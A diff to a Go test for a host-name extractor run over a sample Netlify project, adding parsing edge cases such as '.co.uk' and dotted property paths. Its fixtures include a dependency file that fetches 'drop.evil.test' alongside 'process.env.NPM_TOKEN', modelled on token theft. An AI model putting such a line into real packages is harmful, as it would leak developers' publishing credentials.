@@ -10,7 +10,7 @@ func TestNames(t *testing.T) {
 	dir := t.TempDir()
 	for name, text := range map[string]string{
 		"netlify.toml":                          "[build]\npublish = \"public\"\n",
-		"netlify/functions/pay.js":              "const api = 'https://api.pay.test:8443/v1', db = { host: \"DB.pay.test\" };\nfetch(`https://${shop}.shops.test/x`); open(name + '.tail.test');\nfs.readFileSync('/srv/prices/' + f); if (process.env.PAY_KEY) event.name; //event.body = 1\nconst r = require('./lib.cjs'); app.get('/api', h); // see https://docs.pay.test/x\n",
+		"netlify/functions/pay.js":              "const api = 'https://api.pay.test:8443/v1', db = { host: \"DB.pay.test\" };\nfetch(`https://${shop}.shops.test/x`); open(name + '.tail.test'); mail.endsWith('.co.uk'); get(o, 'user.name') + get(o, 'order.profile.id') + 'https://api.pay.name/' + 'smtp.pay.com';\nfs.readFileSync('/srv/prices/' + f); if (process.env.PAY_KEY) event.name; //event.body = 1\nconst r = require('./lib.cjs'); app.get('/api', h); // see https://docs.pay.test/x\n",
 		"netlify/functions/node_modules/x/i.js": "fetch('https://drop.evil.test/'); process.env.NPM_TOKEN",
 		"node_modules/y/i.js":                   "fetch('https://drop.evil.test/')",
 		"public/app.js":                         "fetch('https://front.evil.test/')",
@@ -36,7 +36,7 @@ func TestNames(t *testing.T) {
 		"api.pay.test": "netlify/functions/pay.js", "db.pay.test": "netlify/functions/pay.js", "docs.pay.test": "netlify/functions/pay.js",
 		"one.shops.test": "netlify/functions/pay.js", "a.b.shops.test": "netlify/functions/pay.js", "x.tail.test": "netlify/functions/pay.js", "smtp.pay.test": "config.yaml",
 		"shops.test": "", "pay.test": "", "evil.api.pay.test": "", "drop.evil.test": "", "front.evil.test": "", "cache.evil.test": "", "old.evil.test": "", "registry.evil.test": "",
-		"event.name": "", "event.body": "", "process.env": "",
+		"evil.co.uk": "", "user.name": "", "order.profile.id": "", "api.pay.name": "netlify/functions/pay.js", "smtp.pay.com": "netlify/functions/pay.js", "event.name": "", "event.body": "", "process.env": "",
 	} {
 		if got := n.Host(host); got != want {
 			t.Errorf("%s is named by %q, want %q", host, got, want)
